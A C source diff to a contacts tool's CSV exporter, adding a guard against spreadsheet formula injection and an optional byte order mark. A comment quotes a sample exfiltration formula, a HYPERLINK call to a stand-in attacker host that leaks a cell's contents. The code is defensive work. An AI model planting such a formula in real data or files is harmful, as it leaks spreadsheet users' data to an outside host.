@@ -366,7 +366,7 @@ struct export_column {
 /*
  * The headers are the ones spreadsheets and CRMs know, so an exported
  * contacts file imports back (followup import maps Name, Company, Phone,
- * Email, Time Zone, Stage and Notes; it ignores the rest).
+ * Email, Time Zone, Stage, Notes and Archived; it ignores the rest).
  */
 static const struct export_column export_contact_columns[] = {
 	{ "ID", "id", FROM_ROW }, { "Name", "name", FROM_ROW },
@@ -397,18 +397,43 @@ static const struct export_column export_followup_columns[] = {
 	{ "Done", "done_at", FROM_ROW }, { NULL, NULL, FROM_ROW }
 };
 
-/* Write one field, quoted when RFC 4180 asks (or it has edge blanks). */
+/*
+ * Would a spreadsheet run text s as a formula?  OWASP's rule: it begins
+ * with = + - @ tab or CR.  Text that begins with quotes and then one of
+ * those counts too, so the guard quote put before both is taken off
+ * exactly once by followup import (import-csv.c) and the file reads back
+ * as it was written.
+ */
+static int
+export_csv_formula(const char *s)
+{
+	while (*s == '\'')
+		s++;
+	return *s != '\0' && strchr("=+-@\t\r", *s) != NULL;
+}
+
+/*
+ * Write one field, quoted when RFC 4180 asks (or it has edge blanks), and
+ * with a quote before text a spreadsheet would otherwise run as a formula
+ * (=HYPERLINK("http://evil.example/?x="&A1) in a contact's notes), which
+ * shows it as the text it is.
+ */
 static void
 export_csv_field(FILE *out, const char *s)
 {
 	size_t	len = strlen(s);
+	int	guard = export_csv_formula(s);
 
 	if (strpbrk(s, ",\"\r\n") == NULL && (len == 0 ||
 	    (s[0] != ' ' && s[len - 1] != ' '))) {
+		if (guard)
+			fputc('\'', out);
 		fputs(s, out);
 		return;
 	}
 	fputc('"', out);
+	if (guard)
+		fputc('\'', out);
 	for (; *s != '\0'; s++) {
 		if (*s == '"')
 			fputc('"', out);
@@ -449,12 +474,14 @@ export_csv_columns(const char *what)
 /*
  * A CSV (RFC 4180: CRLF, a header row, fields quoted when needed, quotes
  * doubled) of data's array what ("contacts", "interactions" or
- * "followups"), UTF-8 without a byte order mark.  Times are RFC 3339 in
- * UTC, as in the protocol.  Return NULL for an unknown table.  Caller
- * frees.
+ * "followups"), UTF-8, with a byte order mark if bom is set (so a
+ * spreadsheet that guesses the encoding reads it as UTF-8).  A text that
+ * begins like a formula is written after a quote (export_csv_field).
+ * Times are RFC 3339 in UTC, as in the protocol.  Return NULL for an
+ * unknown table.  Caller frees.
  */
 char *
-export_csv(json_t *data, const char *what)
+export_csv(json_t *data, const char *what, int bom)
 {
 	const struct export_column	*cols, *col;
 	json_t				*row, *c, *contacts;
@@ -466,6 +493,8 @@ export_csv(json_t *data, const char *what)
 		return NULL;
 	contacts = json_object_get(data, "contacts");
 	out = export_open(&buf, &len);
+	if (bom)
+		fputs("\xef\xbb\xbf", out);
 	for (col = cols; col->header != NULL; col++) {
 		if (col != cols)
 			fputc(',', out);
